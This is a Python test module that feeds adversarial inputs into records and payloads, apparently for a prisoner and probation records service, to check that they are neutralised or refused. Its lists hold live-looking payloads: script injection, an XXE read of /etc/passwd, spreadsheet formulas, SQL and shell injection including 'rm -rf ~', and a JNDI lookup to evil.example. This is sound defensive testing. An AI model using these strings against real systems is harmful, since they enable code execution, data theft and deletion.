"""Names and texts that mean something to a browser, a terminal, a spreadsheet or a reader's eye, and to no form."""
import json
import random

from attack import MARK, neutralise, refuse
from form_attacks import CODES, DATES, DAYS, IDENTIFIERS

MARKUP = {
    "script": "<script>alert(1)</script>", "script-end": "</script><script>alert(1)</script>", "image": "<img src=x onerror=alert(1)>",
    "vector": "<svg onload=alert(1)>", "close-all": "</dd></dl></section></main></body></html>", "close-title": "</title><script>alert(1)</script>",
    "close-style": "</style><script>alert(1)</script>", "quote-handler": '" onmouseover="alert(1)', "apostrophe-handler": "' onmouseover='alert(1)",
    "no-quote-handler": " onfocus=alert(1) autofocus", "javascript": "javascript:alert(1)", "javascript-hidden": "java\u0000script:alert(1)".replace("\0", "\u200b"),
    "data-address": "data:text/html;base64,PHNjcmlwdD4=", "frame": "<iframe srcdoc='<script>alert(1)</script>'>", "form": "<form action=//evil.example><input>",
    "base": "<base href=//evil.example/>", "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">', "link": "<a href='javascript:alert(1)'>x</a>",
    "entity": "&lt;script&gt;", "double-entity": "&amp;lt;script&amp;gt;", "numeric-entity": "&#60;script&#62;", "entity-without-end": "&ltscript&gt",
    "comment": "<!-- --><script>alert(1)</script><!--", "section": "]]><script>alert(1)</script><![CDATA[", "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "instruction": "<?xml version='1.0'?><?php system('id') ?>", "style": "expression(alert(1)); background:url(//evil.example)", "css-escape": "\\3c script\\3e",
    "template": "{{constructor.constructor('alert(1)')()}}", "server-template": "${7*7} #{7*7} <%= 7*7 %>", "backtick": "`onclick=alert(1)`",
    "long-start": "<" * 200, "full-width": "＜script＞alert(1)＜/script＞", "null-tag": "<scr\u00adipt>alert(1)</scr\u00adipt>", "xml-tag": "<CRN>X123456</CRN>",
}
FORMULAS = {
    "equals": "=cmd|'/C calc'!A0", "plus": "+1+1", "minus": "-2+3+cmd", "at": "@SUM(1+1)", "link": '=HYPERLINK("http://evil.example","x")', "quote": '";=1+1;"',
    "sql": "'; DROP TABLE people; --", "shell": "$(touch x) `id` ; rm -rf ~ | cat && x", "format": "%s%n%x %d {0} \\(x)", "path": "../../../etc/passwd",
    "windows-path": "..\\..\\windows\\system32", "ldap": "*)(uid=*))(|(uid=*", "log": "${jndi:ldap://evil.example/a}", "json": '","admin":true,"x":"', "key": '{"$gt":""}',
    "variable": "$HOME ~ %PATH%", "null-word": "null", "none-word": "None", "nan-word": "NaN", "number": "0x1F 1e5 007", "date": "2026-02-31", "true-word": "true",
}
SIGHT = {
    "bidi-override": "a\u202egnp.exe", "bidi-embedding": "\u202aabc\u202c", "bidi-isolate": "\u2066abc\u2069\u2067x\u2068", "bidi-marks": "a\u200eb\u200fc\u061cd",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff", "soft-hyphen": "a\u00adb", "tags": "a" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"), "variation": "a\ufe0fb\U000e0100c",
    "invisible-operators": "1\u20622\u2061x\u2063\u2064", "hangul-filler": "a\u3164b\uffa0c\u115fd", "line-separator": "a\u2028b\u2029c", "no-break": "a\u00a0b\u202fc\u2007d",
    "c1": "a\u0085b\u009b31mc\u0090d\u009c", "delete": "a\x7fb", "noncharacter": "a\ufdd0b\U0001fffec", "private": "a\ue000b\U000f0000c", "cyrillic-a": "C\u0430llum", "greek-mixed": "Αlice Βrown",
    "full-width": "Ｃａｌｌｕｍ", "mathematical": "𝐂𝐚𝐥𝐥𝐮𝐦", "interlinear": "a\ufff9b\ufffac\ufffb", "musical": "a\U0001d173b\U0001d17a", "replacement": "a\ufffdb", "braille-blank": "a\u2800b",
}
NAMES = {
    "welsh": "Siôn Llŷr ap Gwynfŵr", "yoruba": "Ọláolúwa Ẹ̀gbẹ́rìndínlógún", "arabic": "محمد بن عبد الله", "urdu": "محمد\u200cعلی خان", "hebrew": "משה בן־דוד", "chinese": "李小龍", "rare-han": "𠮷野𠀋",
    "japanese": "山田 太郎 ｶﾅ", "korean": "김철수", "korean-jamo": "\u1100\u1161\u11a8", "thai": "สมชาย ใจดี", "hindi": "क्षत्रिय श्री", "bengali": "রবীন্দ্রনাথ", "tamil": "தமிழ் பெயர்", "amharic": "አበበ ቢቂላ",
    "vietnamese": "Nguyễn Thị Ánh", "turkish": "İbrahim Işık ığ", "german": "Groß GROẞ", "polish": "Łukasz Żółć", "greek": "Σίσυφος ς", "icelandic": "Þórður Æ", "decomposed": "Sio\u0302n Lly\u0302r", "composed": "Siôn Llŷr",
    "irish": "Ó Súilleabháin", "apostrophes": "O'Neil O’Neil Oʻzbek", "hyphens": "Smith-Jones Smith‑Jones Smith–Jones", "one-letter": "X Æ A-12", "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇬🇧", "keycap": "1️⃣",
    "marks": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "three-hundred-marks": "e" + "\u0301" * 300, "ligature": "ﬁﬂ ﷺ", "null-name": "Null", "inside": "Test Undefined",
}
LINES = {
    "forged-verdict": "a\nThe referral still stands: no answer has changed.", "forged-line": "a\nvalid    other.xml", "carriage-return": "a\rb", "windows": "a\r\nb\r\nc", "tabs": "a\tb\t\tc", "many": "\n".join("abc"),
    "blank-lines": "a\n\n\n\nb", "space-at-ends": "  a  ", "line-at-end": "a\n", "c1-line": "a\u0085b",
}


def attacks(material):
    for family, texts in (("markup", MARKUP), ("formulas", FORMULAS), ("sight", SIGHT), ("names", NAMES)):
        for name, text in texts.items():
            marked = f"{text} {MARK}" if family == "formulas" else f"{MARK} {text}"
            yield neutralise(family, name, "record", in_record(material, marked), marked)
    for name, text in LINES.items():
        marked = f"{MARK} {text}"
        yield neutralise("lines", name, "record", in_record(material, f"{MARK} one line", marked), marked)
    long = f"{MARK} " + "<&>\"'\u202e" * 8_000
    yield neutralise("markup", "fifty-thousand-characters", "record", in_record(material, f"{MARK} one line", long), long)
    for name, text in {**MARKUP, **SIGHT, **NAMES}.items():
        if random.Random(name).random() < 0.4:
            marked = f"{MARK} {text}"
            yield neutralise("payload-texts", name, "payload", in_payload(material, marked), marked)
    for name, text in LINES.items():
        marked = f"{MARK} {text}"
        yield neutralise("payload-lines", name, "payload", in_payload(material, marked), marked)
    yield from values(material)


def in_record(material, text, long_text=None):
    """A record with the text wherever one line of text, or several, may stand."""
    def make():
        record = json.loads(json.dumps(material.small_record))
        record["person"]["name"]["given"] = text
        record["person"]["nicknames"] = [text]
        record["person"]["aliases"] = [{"given": {"value": text, "source": "nomis", "author": text}}]
        record["custody"]["prisonName"] = text
        record["offending"]["summary"] = long_text or text
        return json.dumps(record, ensure_ascii=len(text) % 2 == 0).encode()
    return make


def in_payload(material, text):
    def make():
        payload = material.payload
        payload["name"]["forename"] = text
        payload["aliases"][0]["surname"] = text
        payload["preferredLanguage"] = text
        return json.dumps(payload, ensure_ascii=len(text) % 2 == 0).encode()
    return make


def values(material):
    def put(group, key, value):
        record = json.loads(json.dumps(material.small_record))
        record["person"].setdefault(group, {})
        if group:
            record["person"][group][key] = value
        else:
            del record["person"][group]
            record["person"][key] = value
        return json.dumps(record).encode()

    for date in DATES:
        yield refuse("record-dates", date or "empty", "record", put("", "dateOfBirth", date))
    for name, number in IDENTIFIERS.items():
        if name in ("small-letters", "leading-space", "trailing-space", "line-end"):
            # Small letters and space are set aside to judge a number; documents have it in one spelling.
            continue
        yield refuse("record-identifiers", name, "record", put("identifiers", "crn", number.replace("&lt;", "<")))
    for name, number in {"wrong-letter": "2012/0900001A", "letter-o": "2012/09O0001U", "year": "2012/0900001", "future": "9999/0900001U"}.items():
        yield refuse("record-identifiers", f"pnc-{name}", "record", put("identifiers", "pnc", number))
    yield refuse("record-identifiers", "verdict-that-lies", "record", put(
        "identifiers", "pnc", {"value": "2012/0900001U", "verdict": "wrongCheckCharacter"}))
    for name, code in CODES.items():
        yield refuse("record-codes", name, "record", put("", "sex", code))
    for day in DAYS:
        yield neutralise("record-dates", f"legal-{day}", "record", put("", "dateOfBirth", day), day)
